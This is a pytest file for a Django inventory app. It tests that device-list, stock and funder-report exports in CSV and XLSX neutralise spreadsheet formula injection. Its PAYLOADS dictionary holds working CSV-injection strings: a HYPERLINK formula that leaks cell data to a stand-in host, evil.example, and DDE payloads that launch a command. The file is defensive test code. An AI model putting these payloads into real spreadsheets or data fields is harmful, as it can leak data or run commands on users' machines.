"""Exported cells a spreadsheet would run as formulas are neutralised (= + - @ tab CR): they
come out prefixed with a quote, shown as text, never run. Through the real export views: the
device list (CSV and XLSX), the stock report (XLSX) and the funder report (CSV and XLSX)."""

import csv
import io
import re

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from accounts.enums import OrganisationKind, Role
from beneficiaries import allocations
from core.exports import FORMULA_PREFIXES
from inventory.enums import DeviceStatus as S
from reconditioning.demo import walk_to
from tests.factories import (
    DonorFactory,
    LocationFactory,
    OrganisationFactory,
    make_batch,
    make_device,
    member,
)

pytestmark = pytest.mark.django_db

# One payload per prefix, each a real attack: DDE, hyperlinks leaking data, a command.
PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?d="&A1,"clic")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}
NUMBER = re.compile(r"-?\d+(?:[.,]\d+)?")


def dangerous(value) -> bool:
    """A text cell a spreadsheet would evaluate (numbers such as -3 are data, not formulas)."""
    return (
        isinstance(value, str)
        and value.startswith(FORMULA_PREFIXES)
        and not NUMBER.fullmatch(value.strip())
    )


def csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    delimiter = ";" if text.split("\n", 1)[0].count(";") else ","
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def xlsx_cells(content: bytes) -> list:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    cells = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula in {sheet.title}!{cell.coordinate}"
                cells.append(cell.value)
    return cells


def assert_neutralised(cells: list, expected: list[str]) -> None:
    assert not [c for c in cells if dangerous(c)]
    # XML reads a stored CR back as LF: the cell is still the quoted text.
    texts = {c.replace("\r", "\n") for c in cells if isinstance(c, str)}
    for payload in expected:
        assert "'" + payload.replace("\r", "\n") in texts, repr(payload)  # kept, inert


@pytest.fixture
def hostile_devices(workshop, technician):
    donor = DonorFactory(workshop=workshop, name=PAYLOADS["="])
    batch = make_batch(workshop, donor=donor, user=technician)
    devices = []
    for n, (prefix, payload) in enumerate(PAYLOADS.items()):
        device = make_device(
            batch,
            user=technician,
            model=payload,
            manufacturer="Dell" if prefix in "\t\r" else payload[:100],
            cpu=payload,
            notes=payload,
            serial_number=f"F{n}",
        )
        devices.append(device)
    location = LocationFactory(workshop=workshop, zone=PAYLOADS["@"][:50], shelf="")
    devices[0].location = location
    devices[0].save(update_fields=["location"])
    return devices


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_device_list_export(tech_client, hostile_devices, fmt):
    response = tech_client.get(reverse("inventory:device_list"), {"export": fmt})
    assert response.status_code == 200
    cells = csv_cells(response.content) if fmt == "csv" else xlsx_cells(response.content)
    # CSV keeps the tab and CR inside their quoted cell; XLSX too.
    assert_neutralised(cells, list(PAYLOADS.values()))


def test_stock_report_xlsx(
    tech_client, workshop, hostile_devices, django_capture_on_commit_callbacks
):
    # The report's scope names the workshops: an organisation's name is typed by people too.
    workshop.name = PAYLOADS["-"]
    workshop.save(update_fields=["name"])
    with django_capture_on_commit_callbacks(execute=True):
        response = tech_client.post(reverse("inventory:stock_report_request"), {"fmt": "xlsx"})
    job_url = response.url
    job_pk = int(job_url.split("?")[0].rstrip("/").rsplit("/", 1)[-1])
    response = tech_client.get(reverse("inventory:report_job_file", args=[job_pk]))
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    cells = xlsx_cells(content)
    location = str(hostile_devices[0].location)
    assert_neutralised(cells, [location, PAYLOADS["-"]])


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_funder_report(
    client, workshop, technician, hostile_devices, fmt, django_capture_on_commit_callbacks
):
    structure = OrganisationFactory(name=PAYLOADS["+"], kind=OrganisationKind.MEDIATION)
    mediator = member(structure, Role.STAFF, username="med")
    device = walk_to(hostile_devices[1], S.READY, technician)
    allocations.allocation_create(device=device, structure=structure, user=mediator)
    coordinator = member(
        OrganisationFactory(kind=OrganisationKind.COORDINATION), Role.COORDINATOR, username="c"
    )
    # Impact factors' sources are typed in the back office and exported on their own sheet.
    from beneficiaries.models import ImpactFactor

    ImpactFactor.objects.filter(device_type="laptop").update(source=PAYLOADS["@"])
    client.force_login(coordinator)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("beneficiaries:funder_report_request"),
            {"year": timezone.localdate().year, "part": "", "fmt": fmt},
        )
    job_pk = int(response.url.split("?")[0].rstrip("/").rsplit("/", 1)[-1])
    response = client.get(reverse("inventory:report_job_file", args=[job_pk]))
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    cells = csv_cells(content) if fmt == "csv" else xlsx_cells(content)
    assert not [c for c in cells if dangerous(c)]
    # The donor's name is inside a longer label, so it never starts a cell; it is exported.
    assert any(isinstance(c, str) and PAYLOADS["="] in c for c in cells)
